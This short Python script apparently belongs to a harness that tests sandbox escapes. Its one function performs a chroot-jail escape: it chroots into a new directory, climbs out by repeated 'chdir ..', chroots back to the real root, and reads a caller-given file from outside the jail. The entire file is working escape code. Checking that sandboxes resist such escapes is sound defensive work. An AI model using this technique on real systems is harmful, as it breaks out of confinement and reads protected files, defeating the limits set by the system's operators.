import os

from attempt import attempt, call


def climb_out(path):
    """chroot moves the root but not the working directory: from above the new root, .. has no end until the real one."""
    os.makedirs("cell", exist_ok=True)
    call("chroot", b"cell")
    for _ in range(64):
        os.chdir("..")
    call("chroot", b".")
    with open(path) as secret:
        return secret.read()


attempt(climb_out)
